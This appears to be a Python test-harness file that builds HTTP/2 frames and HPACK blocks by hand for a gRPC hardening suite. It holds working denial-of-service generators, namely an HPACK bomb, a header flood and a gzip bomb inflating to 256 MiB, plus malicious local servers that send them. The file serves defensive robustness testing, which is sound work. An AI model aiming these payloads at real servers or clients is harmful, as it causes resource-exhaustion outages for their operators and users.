#!/usr/bin/env python3
"""Attack peers for the hardening suite (run.py): hand-made HTTP/2 frames and HPACK blocks, a raw h2
gRPC client, the probe process that measures an unrelated client's unary latency, and malicious
gRPC servers for echo-client.

Frames are built by hand, not with the `h2` state machine, because most attacks are things `h2`
refuses to produce (HPACK bombs, CONTINUATION floods, streams over the advertised limit, bad
prefaces). Server responses are decoded with `hpack`.

    python3 attacks.py probe --port N [--mode fresh|persistent] [--interval-ms 50] [--tls-ca CA.pem]

runs the probe: one unary echo.Echo/Get after the other, each printed as one JSON line
(`{"s": start}` when it starts, `{"s": start, "e": end, "ok": bool, "why": text}` when it ends;
times are CLOCK_MONOTONIC seconds, comparable across processes).
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
import zlib

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types (RFC 9113 section 6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
# Flags.
END_STREAM = 0x1
ACK = 0x1
END_HEADERS = 0x4
PADDED = 0x8
PRIORITY_FLAG = 0x20
# Settings.
HEADER_TABLE_SIZE, ENABLE_PUSH, MAX_CONCURRENT_STREAMS, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE, MAX_HEADER_LIST_SIZE = range(1, 7)
# Error codes.
NO_ERROR, PROTOCOL_ERROR, INTERNAL_ERROR, FLOW_CONTROL_ERROR, SETTINGS_TIMEOUT, STREAM_CLOSED, FRAME_SIZE_ERROR, \
    REFUSED_STREAM, CANCEL, COMPRESSION_ERROR, CONNECT_ERROR, ENHANCE_YOUR_CALM, INADEQUATE_SECURITY, \
    HTTP_1_1_REQUIRED = range(14)
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
# gRPC status codes used here.
GRPC_CODES = {0: "OK", 1: "CANCELLED", 2: "UNKNOWN", 3: "INVALID_ARGUMENT", 4: "DEADLINE_EXCEEDED", 5: "NOT_FOUND",
              8: "RESOURCE_EXHAUSTED", 12: "UNIMPLEMENTED", 13: "INTERNAL", 14: "UNAVAILABLE"}

DEFAULT_MAX_FRAME = 16384
# nghttp2 (with the CVE-2024-28182 backport) accepts at most 8 CONTINUATION frames per header block, so
# the largest block a peer can get through with 16 KiB frames is 9 frames: 147,456 bytes.
MAX_BLOCK_9_FRAMES = 9 * DEFAULT_MAX_FRAME


def error_name(code):
    return ERROR_NAMES[code] if code is not None and 0 <= code < len(ERROR_NAMES) else f"0x{code:x}"


def grpc_name(code):
    return GRPC_CODES.get(code, str(code))


# MARK: Frames

def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((ftype, flags)) + struct.pack(">I", stream_id & 0x7FFFFFFF) + payload


def settings_frame(pairs=(), ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update(stream_id, increment):
    return frame(WINDOW_UPDATE, 0, stream_id, struct.pack(">I", increment))


def rst_stream(stream_id, code=CANCEL):
    return frame(RST_STREAM, 0, stream_id, struct.pack(">I", code))


def ping_frame(data=b"\0" * 8, ack=False):
    return frame(PING, ACK if ack else 0, 0, data)


def goaway_frame(last_stream_id, code=NO_ERROR, debug=b""):
    return frame(GOAWAY, 0, 0, struct.pack(">II", last_stream_id, code) + debug)


def header_frames(stream_id, block, end_stream=False, max_frame=DEFAULT_MAX_FRAME):
    """HEADERS plus as many CONTINUATION frames as `block` needs."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        last = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, last | (END_STREAM if end_stream else 0), stream_id, chunk))
        else:
            out.append(frame(CONTINUATION, last, stream_id, chunk))
    return b"".join(out)


def data_frames(stream_id, data, end_stream=False, max_frame=DEFAULT_MAX_FRAME):
    chunks = [data[i:i + max_frame] for i in range(0, len(data), max_frame)] or [b""]
    return b"".join(frame(DATA, END_STREAM if end_stream and i == len(chunks) - 1 else 0, stream_id, c)
                    for i, c in enumerate(chunks))


def parse_frames(buf):
    """Splits complete frames off `buf` (a bytearray, consumed in place): [(type, flags, stream, payload)]."""
    frames = []
    pos = 0
    while len(buf) - pos >= 9:
        length = int.from_bytes(buf[pos:pos + 3], "big")
        if len(buf) - pos < 9 + length:
            break
        ftype, flags = buf[pos + 3], buf[pos + 4]
        sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
        frames.append((ftype, flags, sid, bytes(buf[pos + 9:pos + 9 + length])))
        pos += 9 + length
    del buf[:pos]
    return frames


def strip_padding(flags, payload, priority=False):
    if flags & PADDED:
        pad = payload[0]
        payload = payload[1:len(payload) - pad] if pad else payload[1:]
    if priority:
        payload = payload[5:]
    return payload


# MARK: HPACK by hand (no Huffman, so the bytes are exactly what the attack needs)

def hpack_int(value, prefix_bits, first_byte=0):
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first_byte | value,))
    out = bytearray((first_byte | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(data):
    data = data.encode() if isinstance(data, str) else data
    return hpack_int(len(data), 7) + data


def hpack_indexed(index):
    return hpack_int(index, 7, 0x80)


def hpack_literal(name, value, incremental=False, name_index=None):
    """A literal field: without indexing (stateless, 0000xxxx) or with incremental indexing (01xxxxxx)."""
    if incremental:
        head = hpack_int(name_index or 0, 6, 0x40)
    else:
        head = hpack_int(name_index or 0, 4, 0x00)
    return head + (b"" if name_index else hpack_str(name)) + hpack_str(value)


# Static table indices (RFC 7541 appendix A).
H_AUTHORITY, H_METHOD_POST, H_PATH, H_SCHEME_HTTP, H_SCHEME_HTTPS, H_STATUS_200, H_CONTENT_TYPE = 1, 3, 4, 6, 7, 8, 31
FIRST_DYNAMIC_INDEX = 62  # 0xbe as a one-byte indexed representation


def request_block(path="/echo.Echo/Get", extra=(), content_type="application/grpc", scheme_https=False,
                  authority="127.0.0.1"):
    """A request header block that uses no dynamic table, so the same bytes work on every stream."""
    block = hpack_indexed(H_METHOD_POST) + hpack_indexed(H_SCHEME_HTTPS if scheme_https else H_SCHEME_HTTP)
    block += hpack_literal(None, path, name_index=H_PATH)
    block += hpack_literal(None, authority, name_index=H_AUTHORITY)
    if content_type is not None:
        block += hpack_literal(None, content_type, name_index=H_CONTENT_TYPE)
    block += hpack_literal("te", "trailers")
    for name, value in extra:
        block += hpack_literal(name, value)
    return block


def hpack_bomb_block(prefix, total=MAX_BLOCK_9_FRAMES, name="x-bomb", table_size=4096):
    """`prefix` (ordinary fields), then one literal with incremental indexing that fills the 4 KiB dynamic
    table, then the one-byte reference 0xbe to it until the block is `total` bytes long.
    Returns (block, references): each reference decodes to a ~4 KiB header."""
    value_len = table_size - 32 - len(name)  # an entry costs name + value + 32 (RFC 7541 4.1)
    insert = hpack_literal(name, b"b" * value_len, incremental=True)
    refs = total - len(prefix) - len(insert)
    return prefix + insert + bytes((0x80 | FIRST_DYNAMIC_INDEX,)) * refs, refs


# MARK: gRPC framing and the echo messages (protobuf field 1, `text`, by hand)

def varint(n):
    out = bytearray()
    while n >= 0x80:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def echo_request(text):
    text = text.encode() if isinstance(text, str) else text
    return b"\x0a" + varint(len(text)) + text if text else b""


def grpc_message(payload, compressed=False):
    return bytes((1 if compressed else 0,)) + struct.pack(">I", len(payload)) + payload


def grpc_messages(buf):
    """[(compressed flag, payload)] of the complete messages in `buf` (bytes)."""
    out, pos = [], 0
    while len(buf) - pos >= 5:
        n = int.from_bytes(buf[pos + 1:pos + 5], "big")
        if len(buf) - pos - 5 < n:
            break
        out.append((buf[pos], bytes(buf[pos + 5:pos + 5 + n])))
        pos += 5 + n
    return out


def echo_text(payload):
    """The `text` field of an EchoResponse (b"" when absent)."""
    pos = 0
    while pos < len(payload):
        key = payload[pos]
        pos += 1
        n, shift = 0, 0
        while True:
            b = payload[pos]
            pos += 1
            n |= (b & 0x7F) << shift
            shift += 7
            if b < 0x80:
                break
        if key == 0x0a:
            return payload[pos:pos + n]
        pos += n  # other length-delimited fields; the echo messages have none
    return b""


def gzip_of(parts, level=6):
    """Gzip (RFC 1952) of the concatenation of `parts` (an iterable of bytes), streamed."""
    c = zlib.compressobj(level, zlib.DEFLATED, 31)
    out = [c.compress(p) for p in parts]
    out.append(c.flush())
    return b"".join(out)


_bomb_cache = {}


def gzip_bomb(decompressed_bytes, text_field=True):
    """A gzip payload that inflates to `decompressed_bytes` bytes: an EchoRequest whose text is that many
    'a's (less the field's own few bytes) when `text_field`, so it is a valid message once inflated.

    Made in well under a second even for 1 GiB: after a full flush deflate keeps no history, so one
    compressed 1 MiB chunk is repeated as bytes; only the CRC-32 runs over the whole content."""
    key = (decompressed_bytes, text_field)
    if key in _bomb_cache:
        return _bomb_cache[key]
    head = b""
    if text_field:
        n = decompressed_bytes - 1 - len(varint(decompressed_bytes))
        head = b"\x0a" + varint(n)
    chunk = b"a" * (1 << 20)
    copies, tail = divmod(decompressed_bytes - len(head), len(chunk))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head), c.flush(zlib.Z_FULL_FLUSH)]
    if copies:
        one = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
        out.append(one * copies)
    out += [c.compress(chunk[:tail]), c.flush(zlib.Z_FINISH)]
    crc = zlib.crc32(head)
    for _ in range(copies):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(chunk[:tail], crc)
    gz = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + b"".join(out) + struct.pack("<II", crc, decompressed_bytes & 0xFFFFFFFF)
    _bomb_cache[key] = gz
    return gz


# MARK: A raw HTTP/2 client connection

class Stream:
    def __init__(self, sid, send_window):
        self.id = sid
        self.headers = None      # the first header block, [(name, value)] (bytes)
        self.trailers = None     # a second header block
        self.data = bytearray()  # DATA payloads, concatenated (unless the connection keeps no data)
        self.data_bytes = 0
        self.ended = False       # END_STREAM received
        self.rst = None          # the RST_STREAM error code received
        self.send_window = send_window

    @property
    def done(self):
        return self.ended or self.rst is not None

    def field(self, name):
        for block in (self.trailers, self.headers):
            for k, v in block or ():
                if k == name:
                    return v
        return None

    @property
    def http_status(self):
        for k, v in self.headers or ():
            if k == b":status":
                return int(v)
        return None

    @property
    def grpc_status(self):
        v = self.field(b"grpc-status")
        return int(v) if v is not None and v.isdigit() else None

    @property
    def grpc_message(self):
        v = self.field(b"grpc-message")
        return v.decode(errors="replace") if v is not None else None

    def messages(self):
        return grpc_messages(self.data)

    def describe(self):
        if self.headers is None:
            return f"RST_STREAM {error_name(self.rst)}" if self.rst is not None else "no response"
        parts = [f"HTTP {self.http_status}"]
        if self.grpc_status is not None:
            msg = self.grpc_message
            parts.append(f"grpc-status {self.grpc_status} ({grpc_name(self.grpc_status)})"
                         + (f" {msg[:80]!r}" if msg else ""))
        elif self.ended:
            parts.append("no grpc-status")
        elif self.rst is None:
            parts.append("still open")
        if self.data_bytes:
            parts.append(f"{self.data_bytes} data bytes")
        if self.rst is not None:
            parts.append(f"then RST_STREAM {error_name(self.rst)}")
        return ", ".join(parts)


class H2Conn:
    """A client connection that speaks frames by hand: a blocking socket, frames parsed as they arrive,
    SETTINGS and PING answered, send windows tracked, WINDOW_UPDATE returned for received DATA unless
    `auto_window` is False. Never raises on a dead peer: `closed`, `eof`, `reset`, `goaway` tell."""

    def __init__(self, port, host="127.0.0.1", timeout=5.0, tls=None, rcvbuf=None, keep_data=True):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.settimeout(timeout)
        s.connect((host, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if tls is not None:
            s = tls.wrap_socket(s, server_hostname="localhost")
            if s.selected_alpn_protocol() != "h2":
                raise OSError(f"ALPN chose {s.selected_alpn_protocol()!r}, not h2")
        self.sock = s
        self.buf = bytearray()
        self.decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self.streams = {}
        self.peer_settings = {}
        self.settings_received = 0
        self.settings_acks = 0
        self.pings_received = 0
        self.goaway = None          # (last stream id, error code, debug data)
        self.eof = False
        self.reset = False          # ECONNRESET / EPIPE seen
        self.error = None
        self.send_failed = None
        self.conn_send_window = 65535
        self.peer_initial_window = 65535
        self.next_id = 1
        self.auto_window = True
        self.ack_settings = True
        self.answer_pings = True
        self.keep_data = keep_data
        self.frame_log = []         # (time, type, flags, stream, length) of the first frames received
        self.raw_received = 0
        self._block = None          # (stream id, flags of the HEADERS frame, fragments)
        self.opened = time.monotonic()
        self.closed_at = None

    # -- sending

    def send(self, data):
        """Writes all of `data`; False when the peer is gone. A failed write does not mark the connection
        closed: what the peer sent before its reset (a GOAWAY, say) is still to be read by `poll`."""
        if self.closed or self.send_failed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError) as e:
            self.reset, self.send_failed = True, e
        except OSError as e:
            self.send_failed = e
        return False

    @property
    def dead(self):
        """Closed, or a write failed (nothing more can be sent)."""
        return self.closed or self.send_failed is not None

    def start(self, settings=()):
        """Sends the preface and a SETTINGS frame."""
        return self.send(PREFACE + settings_frame(settings))

    def new_stream_id(self):
        sid = self.next_id
        self.next_id += 2
        self.streams[sid] = Stream(sid, self.peer_initial_window)
        return sid

    def stream(self, sid):
        if sid not in self.streams:
            self.streams[sid] = Stream(sid, self.peer_initial_window)
        return self.streams[sid]

    def send_headers(self, block, end_stream=False, sid=None):
        sid = sid or self.new_stream_id()
        self.stream(sid)
        self.send(header_frames(sid, block, end_stream))
        return sid

    def send_data(self, sid, data, end_stream=False, deadline=None):
        """Sends within the peer's windows, waiting (reading) for WINDOW_UPDATE until `deadline`.
        Returns the number of bytes sent (less than len(data) when the windows stayed shut or the
        stream or connection died)."""
        st = self.stream(sid)
        sent = 0
        view = memoryview(data)
        max_frame = self.peer_settings.get(MAX_FRAME_SIZE, DEFAULT_MAX_FRAME)
        while sent < len(data) or (not data and end_stream):
            if self.dead or st.rst is not None:
                break
            allowed = min(self.conn_send_window, st.send_window, max_frame, len(data) - sent)
            if allowed <= 0 and data:
                if deadline is None or time.monotonic() >= deadline:
                    break
                self.poll(min(0.05, max(0.0, deadline - time.monotonic())))
                continue
            last = sent + allowed >= len(data)
            if not self.send(frame(DATA, END_STREAM if end_stream and last else 0, sid, bytes(view[sent:sent + allowed]))):
                break
            sent += allowed
            self.conn_send_window -= allowed
            st.send_window -= allowed
            if not data:
                break
        return sent

    def close(self, rst=True):
        """Closes; with `rst`, by a TCP reset (SO_LINGER 0), so no TIME_WAIT is left behind."""
        try:
            if rst:
                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            self.sock.close()
        except OSError:
            pass
        self._mark_closed()

    # -- receiving

    @property
    def closed(self):
        return self.closed_at is not None

    def _mark_closed(self):
        if self.closed_at is None:
            self.closed_at = time.monotonic()

    def poll(self, timeout):
        """Waits up to `timeout` for bytes, processes every complete frame. False once closed."""
        if self.closed:
            return False
        try:
            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not pending:
                r, _, _ = select.select([self.sock], [], [], max(0.0, timeout))
                if not r:
                    return True
            chunk = self.sock.recv(1 << 16)
        except (ConnectionResetError, BrokenPipeError) as e:
            self.reset, self.error = True, e
            self._mark_closed()
            return False
        except ssl.SSLError as e:
            self.error = e
            self._mark_closed()
            return False
        except OSError as e:
            self.error = e
            self._mark_closed()
            return False
        if not chunk:
            self.eof = True
            self._mark_closed()
            return False
        self.raw_received += len(chunk)
        self.buf += chunk
        self._process()
        return True

    def run_until(self, condition, timeout):
        """Reads until `condition()` holds, the connection closes, or `timeout` passes; returns condition()."""
        deadline = time.monotonic() + timeout
        while not condition():
            left = deadline - time.monotonic()
            if left <= 0 or not self.poll(min(left, 0.1)):
                break
        return condition()

    def drain(self, timeout):
        """Reads until the connection closes or `timeout` passes."""
        self.run_until(lambda: self.closed, timeout)

    def _process(self):
        out = []
        updates = {}
        for ftype, flags, sid, payload in parse_frames(self.buf):
            if len(self.frame_log) < 64:
                self.frame_log.append((time.monotonic(), ftype, flags, sid, len(payload)))
            if self._block is not None and ftype != CONTINUATION:
                self.error = "frame inside a header block"
            if ftype == SETTINGS:
                if flags & ACK:
                    self.settings_acks += 1
                else:
                    self.settings_received += 1
                    for i in range(0, len(payload) - 5, 6):
                        k, v = struct.unpack(">HI", payload[i:i + 6])
                        if k == INITIAL_WINDOW_SIZE:
                            delta = v - self.peer_initial_window
                            self.peer_initial_window = v
                            for st in self.streams.values():
                                st.send_window += delta
                        self.peer_settings[k] = v
                    if self.ack_settings:
                        out.append(settings_frame(ack=True))
            elif ftype == PING:
                if not flags & ACK:
                    self.pings_received += 1
                    if self.answer_pings:
                        out.append(ping_frame(payload, ack=True))
            elif ftype == GOAWAY:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, code, payload[8:])
            elif ftype == WINDOW_UPDATE:
                inc = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                if sid == 0:
                    self.conn_send_window += inc
                else:
                    self.stream(sid).send_window += inc
            elif ftype == RST_STREAM:
                self.stream(sid).rst = struct.unpack(">I", payload[:4])[0]
            elif ftype == HEADERS:
                fragment = strip_padding(flags, payload, priority=bool(flags & PRIORITY_FLAG))
                self._block = (sid, flags, [fragment])
                if flags & END_HEADERS:
                    self._finish_block()
            elif ftype == CONTINUATION:
                if self._block is not None:
                    self._block[2].append(payload)
                    if flags & END_HEADERS:
                        self._finish_block()
            elif ftype == DATA:
                st = self.stream(sid)
                body = strip_padding(flags, payload)
                st.data_bytes += len(body)
                if self.keep_data:
                    st.data += body
                if flags & END_STREAM:
                    st.ended = True
                if self.auto_window and payload:
                    updates[0] = updates.get(0, 0) + len(payload)
                    if not st.ended:
                        updates[sid] = updates.get(sid, 0) + len(payload)
        for sid, n in updates.items():
            out.append(window_update(sid, n))
        if out:
            self.send(b"".join(out))

    def _finish_block(self):
        sid, flags, fragments = self._block
        self._block = None
        try:
            fields = self.decoder.decode(b"".join(fragments), raw=True)
        except Exception as e:  # a broken block from the server is itself a finding
            self.error = f"HPACK decode failed: {e}"
            fields = []
        st = self.stream(sid)
        if st.headers is None:
            st.headers = fields
        else:
            st.trailers = fields
        if flags & END_STREAM:
            st.ended = True

    def describe(self):
        parts = []
        if self.goaway:
            parts.append(f"GOAWAY {error_name(self.goaway[1])} last-stream {self.goaway[0]}"
                         + (f" {self.goaway[2][:60]!r}" if self.goaway[2] else ""))
        if self.reset:
            parts.append("reset")
        elif self.eof:
            parts.append("closed")
        return ", ".join(parts) or "open"


def wait_for_settings(conn, timeout=2.0):
    return conn.run_until(lambda: conn.settings_received > 0, timeout)


def unary_get(port, text=b"probe", extra=(), timeout=5.0, tls=None, conn=None, path="/echo.Echo/Get"):
    """One echo.Echo/Get over `conn` (or a fresh connection). Returns (ok, why, conn)."""
    fresh = conn is None
    try:
        if fresh:
            conn = H2Conn(port, timeout=timeout, tls=tls)
            conn.start()
        sid = conn.send_headers(request_block(path, extra, scheme_https=tls is not None))
        conn.send(data_frames(sid, grpc_message(echo_request(text)), end_stream=True))
        st = conn.streams[sid]
        conn.run_until(lambda: st.done, timeout)
        if st.grpc_status == 0 and st.messages() and echo_text(st.messages()[0][1]) == text:
            return True, "", conn
        if st.done:
            why = st.describe()
        elif conn.closed or conn.dead:
            why = f"connection {conn.describe() if conn.describe() != 'open' else 'lost'} with the call unanswered ({st.describe()})"
        else:
            why = f"no answer within {timeout:.1f} s ({st.describe()}; connection {conn.describe()})"
        return False, why, conn
    except OSError as e:
        return False, f"{type(e).__name__}: {e}", conn
    finally:
        if fresh and conn is not None:
            conn.close()
            conn.streams.clear()


def tls_client_context(ca_file):
    ctx = ssl.create_default_context(cafile=ca_file)
    ctx.set_alpn_protocols(["h2"])
    return ctx


# MARK: The probe process

def probe_main(argv):
    p = argparse.ArgumentParser(prog="attacks.py probe")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--mode", choices=["fresh", "persistent"], default="fresh")
    p.add_argument("--interval-ms", type=float, default=50)
    p.add_argument("--timeout-s", type=float, default=5.0)
    p.add_argument("--tls-ca")
    a = p.parse_args(argv)
    tls = tls_client_context(a.tls_ca) if a.tls_ca else None
    conn = None
    n = 0
    while True:
        n += 1
        text = f"probe-{n}".encode()
        start = time.monotonic()
        print(json.dumps({"s": start}), flush=True)
        if a.mode == "persistent":
            if conn is None or conn.closed:
                try:
                    conn = H2Conn(a.port, timeout=a.timeout_s, tls=tls)
                    conn.start()
                except OSError as e:
                    conn = None
                    print(json.dumps({"s": start, "e": time.monotonic(), "ok": False, "why": f"connect: {e}"}), flush=True)
                    time.sleep(a.interval_ms / 1000)
                    continue
            ok, why, conn = unary_get(a.port, text, timeout=a.timeout_s, tls=tls, conn=conn)
            if conn is not None:
                # Keep the persistent connection small: forget finished streams.
                for sid in [s for s, st in conn.streams.items() if st.done]:
                    del conn.streams[sid]
                if not ok:
                    why += f" (persistent connection: {conn.describe()})"
                    conn.close()
                    conn = None
        else:
            ok, why, _ = unary_get(a.port, text, timeout=a.timeout_s, tls=tls)
        print(json.dumps({"s": start, "e": time.monotonic(), "ok": ok, "why": why}), flush=True)
        time.sleep(a.interval_ms / 1000)


# MARK: Malicious servers (for echo-client)

class MaliciousServer:
    """A tiny HTTP/2 server on 127.0.0.1 that answers each request on a connection in the way `kind` says:

    - `benign`: a normal OK response with one message (the control: proves the peer itself works);
    - `hpack-bomb`: response headers of ~147 KB, one 4 KiB table entry referenced ~143k times;
    - `many-headers`: response headers with ~12k distinct small metadata fields (~147 KB encoded);
    - `gzip-bomb`: a gzip message (grpc-encoding: gzip) that inflates to 256 MiB;
    - `no-settings`: accepts TCP, reads, never writes anything (not even SETTINGS).

    After the malicious part it sends a valid message and OK trailers, so a client that swallows the
    attack reports OK."""

    KINDS = ("benign", "hpack-bomb", "many-headers", "gzip-bomb", "no-settings")

    def __init__(self, kind):
        assert kind in self.KINDS
        self.kind = kind
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(16)
        self.port = self.listener.getsockname()[1]
        self.stopping = False
        self.connections = []
        self.requests = 0
        self.sent_attack = 0
        self.notes = []
        self.threads = [threading.Thread(target=self._accept_loop, daemon=True)]
        self.threads[0].start()

    def stop(self):
        self.stopping = True
        for s in [self.listener] + self.connections:
            try:
                s.close()
            except OSError:
                pass
        for t in self.threads:
            t.join(timeout=2)

    def _accept_loop(self):
        while not self.stopping:
            try:
                r, _, _ = select.select([self.listener], [], [], 0.1)
                if not r:
                    continue
                s, _ = self.listener.accept()
            except OSError:
                return
            s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            self.connections.append(s)
            t = threading.Thread(target=self._serve, args=(s,), daemon=True)
            self.threads.append(t)
            t.start()

    def _serve(self, s):
        buf = bytearray()
        got_preface = False
        conn_window, initial_window = 65535, 65535
        stream_windows = {}
        pending = []  # (stream id, bytes of DATA still to send, then trailers block)
        block_sid = None
        try:
            if self.kind != "no-settings":
                s.sendall(settings_frame())
            while not self.stopping:
                r, _, _ = select.select([s], [], [], 0.1)
                if r:
                    chunk = s.recv(1 << 16)
                    if not chunk:
                        return
                    buf += chunk
                if self.kind == "no-settings":
                    buf.clear()
                    continue
                if not got_preface:
                    if len(buf) < len(PREFACE):
                        continue
                    if bytes(buf[:len(PREFACE)]) != PREFACE:
                        self.notes.append("bad client preface")
                        return
                    del buf[:len(PREFACE)]
                    got_preface = True
                out = []
                for ftype, flags, sid, payload in parse_frames(buf):
                    if ftype == SETTINGS and not flags & ACK:
                        for i in range(0, len(payload) - 5, 6):
                            k, v = struct.unpack(">HI", payload[i:i + 6])
                            if k == INITIAL_WINDOW_SIZE:
                                for x in stream_windows:
                                    stream_windows[x] += v - initial_window
                                initial_window = v
                        out.append(settings_frame(ack=True))
                    elif ftype == PING and not flags & ACK:
                        out.append(ping_frame(payload, ack=True))
                    elif ftype == WINDOW_UPDATE:
                        inc = struct.unpack(">I", payload[:4])[0] & 0x7FFFFFFF
                        if sid == 0:
                            conn_window += inc
                        else:
                            stream_windows[sid] = stream_windows.get(sid, initial_window) + inc
                    elif ftype == HEADERS:
                        block_sid = sid
                        if flags & END_HEADERS:
                            out.append(self._respond(sid, pending))
                            stream_windows.setdefault(sid, initial_window)
                    elif ftype == CONTINUATION and flags & END_HEADERS and block_sid == sid:
                        out.append(self._respond(sid, pending))
                        stream_windows.setdefault(sid, initial_window)
                if out:
                    s.sendall(b"".join(out))
                # Response DATA within the client's windows; trailers once it is all out.
                still = []
                for sid, data, trailers in pending:
                    window = min(conn_window, stream_windows.get(sid, initial_window))
                    n = min(len(data), window)
                    if n > 0:
                        s.sendall(data_frames(sid, data[:n]))
                        conn_window -= n
                        stream_windows[sid] = stream_windows.get(sid, initial_window) - n
                        data = data[n:]
                    if data:
                        still.append((sid, data, trailers))
                    else:
                        s.sendall(header_frames(sid, trailers, end_stream=True))
                pending[:] = still
        except OSError:
            return

    def _respond(self, sid, pending):
        self.requests += 1
        ok_trailers = hpack_literal("grpc-status", "0")
        ct = hpack_literal(None, "application/grpc", name_index=H_CONTENT_TYPE)
        message = grpc_message(echo_request(b"from the malicious server"))
        head = hpack_indexed(H_STATUS_200) + ct
        if self.kind == "hpack-bomb":
            block, refs = hpack_bomb_block(head)
            self.sent_attack = refs
            pending.append((sid, message, ok_trailers))
            return header_frames(sid, block)
        if self.kind == "many-headers":
            block = bytearray(head)
            i = 0
            while True:
                field = hpack_literal(f"x-h{i}", "v")
                if len(block) + len(field) > MAX_BLOCK_9_FRAMES:
                    break
                block += field
                i += 1
            self.sent_attack = i
            pending.append((sid, message, ok_trailers))
            return header_frames(sid, bytes(block))
        if self.kind == "gzip-bomb":
            bomb = gzip_bomb(256 << 20)
            self.sent_attack = len(bomb)
            pending.append((sid, grpc_message(bomb, compressed=True), ok_trailers))
            return header_frames(sid, head + hpack_literal("grpc-encoding", "gzip"))
        pending.append((sid, message, ok_trailers))
        return header_frames(sid, head)


if __name__ == "__main__":
    if len(sys.argv) > 1 and sys.argv[1] == "probe":
        try:
            probe_main(sys.argv[2:])
        except (KeyboardInterrupt, BrokenPipeError):
            pass
    else:
        print(__doc__)
        sys.exit(2)
